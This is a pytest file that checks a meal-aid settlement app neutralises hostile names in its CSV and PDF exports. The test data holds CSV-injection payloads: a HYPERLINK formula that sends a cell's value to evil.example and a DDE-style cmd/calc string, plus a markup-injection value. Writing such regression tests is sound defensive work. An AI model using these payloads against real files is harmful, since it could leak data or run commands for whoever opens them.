"""Settlement files with hostile names in them (issue 23, findings 4 and 5): a name that looks
like a spreadsheet formula is written as text in every CSV, a name that looks like ReportLab
markup is printed as it is in every PDF, and neither stops the month's settlement, over the web
and from `mealaid settle`."""

import csv
import io
from datetime import datetime

import pypdf
import pytest
from fastapi.testclient import TestClient
from sqlmodel import select

from core.clock import FixedClock
from core.db import Database
from core.models import Elder, Site
from tests.apps import web_app
from tests.conftest import SHANGHAI
from tests.factories import Factory, log_in, make_staff, served_lunches
from tests.mealaid.test_commands import mealaid, one_line
from tests.mealaid.test_demo import database_url  # noqa: F401  (the fixture)

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
MARKUP = '<img src="x"/>'
# Names as a community worker could type them: every one is a valid name.
HOSTILE_NAMES = [FORMULA, MARKUP, "<b"]
HOSTILE_SITE = "@SUM(1+1)*cmd|' /C calc'!A0"


def served_to_hostile_names(session) -> Factory:
    """`served_lunches`, with the three elders and their site renamed to hostile text."""
    make = Factory(session, FixedClock(datetime(2026, 11, 25, 8, 0, tzinfo=SHANGHAI)))
    served_lunches(make)
    # The last three are the ones served (the first is the world's, who ordered nothing).
    elders = session.exec(select(Elder).order_by(Elder.id)).all()[-3:]
    for elder, name in zip(elders, HOSTILE_NAMES, strict=True):
        elder.name = name
        session.add(elder)
    site = session.exec(select(Site)).one()
    site.name = HOSTILE_SITE
    session.add(site)
    session.flush()
    return make


def pdf_text(content: bytes) -> str:
    return "\n".join(page.extract_text() for page in pypdf.PdfReader(io.BytesIO(content)).pages)


def csv_rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def assert_no_formula(rows: list[list[str]]) -> None:
    """No cell a spreadsheet would run: each starts with none of = + - @, tab or CR, unless
    it is a plain number."""
    for row in rows:
        for cell in row:
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                float(cell)  # a number (a negative amount) is fine; anything else fails here


@pytest.fixture
def hostile_month(empty_database):
    clock = FixedClock(datetime(2026, 11, 25, 8, 0, tzinfo=SHANGHAI))
    with empty_database.transaction() as session:
        make = served_to_hostile_names(session)
        admin = make_staff(make, "admin").username
    app = web_app(database=empty_database, clock=clock)
    with TestClient(app) as client:
        assert log_in(client, admin).status_code == 303
        yield client


def test_hostile_names_are_text_in_every_settlement_csv_over_the_web(hostile_month):
    client = hostile_month
    names = client.get("/api/v1/settlement?month=2026-11").json()["files"]
    csvs = [name for name in names if name.endswith(".csv")]
    assert "bills.csv" in csvs and "claims.csv" in csvs
    for name in csvs:
        response = client.get(f"/api/v1/settlement/2026-11/files/{name}?lang=en")
        assert response.status_code == 200, name
        assert_no_formula(csv_rows(response.content))
    bills = csv_rows(client.get("/api/v1/settlement/2026-11/files/bills.csv?lang=en").content)
    elders = {row[0] for row in bills[1:]}
    # The formula is kept, whole, as text: the single quote tells a spreadsheet it is text.
    assert elders == {"'" + FORMULA, MARKUP, "<b"}
    assert {row[5] for row in bills[1:]} == {"'" + HOSTILE_SITE}
    # Amounts stay numbers, unquoted.
    assert all(float(cell) >= 0 for row in bills[1:] for cell in row[7:])
    claims = csv_rows(client.get("/api/v1/settlement/2026-11/files/claims.csv?lang=en").content)
    assert claims[1][0] == "'" + HOSTILE_SITE


def test_hostile_names_are_printed_as_typed_in_the_bills_pdf_over_the_web(hostile_month):
    client = hostile_month
    response = client.get("/api/v1/settlement/2026-11/files/bills.pdf?lang=en")
    assert response.status_code == 200
    text = pdf_text(response.content)
    for name in HOSTILE_NAMES:
        assert f"{name}, elder no. " in text, name  # each elder's heading
    claims = client.get("/api/v1/settlement/2026-11/files/claims.pdf?lang=en")
    assert claims.status_code == 200 and HOSTILE_SITE in pdf_text(claims.content)


def test_mealaid_settle_writes_every_file_whatever_the_names(
    database_url,  # noqa: F811
    tmp_path,
):
    database = Database.from_url(database_url)
    database.migrate()
    with database.transaction() as session:
        served_to_hostile_names(session)
    database.dispose()
    out = tmp_path / "out"
    settled = mealaid("settle", "--month", "2026-11", "--out", str(out), "--lang", "en")
    assert settled.returncode == 0, one_line(settled)
    assert "Settled 2026-11" in one_line(settled)
    text = pdf_text((out / "bills.pdf").read_bytes())
    for name in HOSTILE_NAMES:
        assert f"{name}, elder no. " in text, name
    for path in out.glob("*.csv"):
        assert_no_formula(csv_rows(path.read_bytes()))
    bills = csv_rows((out / "bills.csv").read_bytes())
    assert {row[0] for row in bills[1:]} == {"'" + FORMULA, MARKUP, "<b"}
